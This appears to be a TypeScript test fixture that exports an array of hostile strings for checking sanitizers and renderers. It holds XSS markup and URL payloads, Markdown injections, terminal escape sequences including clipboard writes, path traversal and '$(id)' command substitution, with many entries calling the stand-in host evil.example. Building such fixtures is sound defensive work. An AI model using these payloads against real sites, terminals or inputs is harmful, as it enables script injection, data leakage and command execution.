// Texts that try to be more than text: markup, addresses, Markdown, terminal sequences, names of files.

const SCRIPT = "ran(`payload`)";
export const EVIL = "https://evil.example";

const TAGS = [
  "img src=x", "svg", "body", "iframe", "input autofocus", "details open", "video src=x", "audio src=x", "object data=x", "marquee", "select autofocus",
  "textarea autofocus", "a href=# autofocus", "style", "link rel=stylesheet href=x", "form", "button autofocus", "math", "embed src=x", "table background=x", "div", "x",
];
const HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart"];

const MARKUP = [
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}="${SCRIPT}">`)),
  `<script>${SCRIPT}</script>`,
  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  `"><script>${SCRIPT}</script>`,
  `'-${SCRIPT}-'`,
  `\${${SCRIPT}}`,
  `{{constructor.constructor('${SCRIPT}')()}}`,
  `<iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe>`,
  `<iframe src="javascript:parent.${SCRIPT}"></iframe>`,
  `<object data="data:text/html,<script>${SCRIPT}</script>"></object>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<base href="${EVIL}/">`,
  `<link rel="prefetch" href="${EVIL}/x">`,
  `<style>@import url(${EVIL}/x.css);</style>`,
  `<div style="background:url(${EVIL}/x.png)">x</div>`,
  `<img src="${EVIL}/x.png">`,
  `<img srcset="${EVIL}/x.png 1x">`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><use href="${EVIL}/x.svg#a"/></svg>`,
  `<svg><animate onbegin="${SCRIPT}" attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${SCRIPT}</script>"></iframe></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${SCRIPT}"><text>x</text></a></svg>`,
  `<math><mi xlink:href="javascript:${SCRIPT}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${SCRIPT}>">`,
  `<template><script>${SCRIPT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<!--><script>${SCRIPT}</script>-->`,
  `<![CDATA[<script>${SCRIPT}</script>]]>`,
  `<form action="${EVIL}"><input name=a><button>Send</button></form>`,
  `<input type=image src="${EVIL}/x.png">`,
  `<video poster="${EVIL}/x.png"></video>`,
  `<a ping="${EVIL}" href="#">x</a>`,
  `<div id=root>x</div>`,
  `<a id=location href="${EVIL}">x</a>`,
  `\u0000<script>${SCRIPT}</script>`,
  `\ufeff<script>${SCRIPT}</script>`,
  `+ADw-script+AD4-${SCRIPT}+ADw-/script+AD4-`,
];

const ADDRESSES = [
  `javascript:${SCRIPT}`, `JaVaScRiPt:${SCRIPT}`, ` javascript:${SCRIPT}`, `\tjavascript:${SCRIPT}`, `java\tscript:${SCRIPT}`, `javascript&colon;${SCRIPT}`, `javascript&#58;${SCRIPT}`,
  `&#106;avascript:${SCRIPT}`, `\u0001javascript:${SCRIPT}`, `javascript://x%0a${SCRIPT}`, `data:text/html,<script>${SCRIPT}</script>`, `data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${SCRIPT}'/>`, `vbscript:${SCRIPT}`, `blob:${EVIL}/x`, `filesystem:${EVIL}/x`, `view-source:${EVIL}`, `//evil.example/x.png`, `${EVIL}/x.png`,
  `http://evil.example/x.png`, `https://me:secret@evil.example/`, `file:///etc/passwd`, `/api/v1/session`, `\\\\evil.example\\x`, `mailto:x@evil.example`, `intent://x`,
];
const MARKDOWN = [
  ...ADDRESSES.flatMap((address) => [`[link](${address})`, `![image](${address})`, `<${address}>`, `[r]\n\n[r]: ${address}`]),
  `![x](${EVIL}/a.png "title")`,
  `[![x](${EVIL}/a.png)](javascript:${SCRIPT})`,
  `| a |\n|---|\n| <img src=x onerror=${SCRIPT}> |`,
  `\`\`\`html\n<script>${SCRIPT}</script>\n\`\`\``,
  `\`\`\`"><script>${SCRIPT}</script>\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A-->B; click A "javascript:${SCRIPT}"\n\`\`\``,
  `$$\\href{javascript:${SCRIPT}}{x}$$`,
  `[^1]\n\n[^1]: <script>${SCRIPT}</script>`,
  `- [x] <img src=x onerror=${SCRIPT}>`,
  `# <img src=x onerror=${SCRIPT}>`,
  `${"> ".repeat(200)}deep`,
  `${"[".repeat(2000)}`,
  `${"*".repeat(5000)}`,
];

const TERMINAL = [
  `\u001b]8;;javascript:${SCRIPT}\u0007click\u001b]8;;\u0007`, `\u001b]8;;${EVIL}\u001b\\click\u001b]8;;\u001b\\`, `\u001b]0;title\u0007`, `\u001b]52;c;ZXZpbA==\u0007`, `\u001b]1337;File=inline=1:aGk=\u0007`,
  `\u001b]50;${EVIL}\u0007`, `\u001bP+q544e\u001b\\`, `\u001b_Gf=100;x\u001b\\`, `\u001b[31m<script>${SCRIPT}</script>\u001b[0m`, `\u001b[38;2;1;2;3;url(${EVIL})mx`, `\u001b[38;5;999mx`, `\u001b[99999999999999999999mx`,
  `\u001b[2J\u001b[H\u001b[3J`, `\u001b[?1049h`, `\u001bc`, `\u009b31mx`, `\u001b[31`, `\u001b`, `\u001b[<0;1;1M`, `a\rb\rc`, `${"\b".repeat(500)}x`, `\u0007`.repeat(100), `\u001b[5n`, `\u001b[6n`, `\u001b[c`,
  `\u001b[21t`, `\u001bZ`, `\u0005`, `\u001b[1;2;3;4;5;6;7;8;9mx\u001b[0m`, `\u001b[38;2;"><script>${SCRIPT}</script>mx`,
];

const NAMES = [
  "../../etc/passwd", "a\u202egnp.exe", "a\nb", "a\tb", "a\u0000b", `"><img src=x onerror=${SCRIPT}>.js`, "--help", "con.txt", ".git/config", "x".repeat(500), "\u200b", "name with spaces", "ünï/cödé", "漢字.rs",
  "a\\b", "$(id)", "`id`", "%2e%2e%2f", "file:///x", `javascript:${SCRIPT}`, "constructor", "__proto__", "a b/c\" d", "\u2066a\u2069",
];

export const PAYLOADS: readonly string[] = [...MARKUP, ...MARKDOWN, ...TERMINAL, ...NAMES];
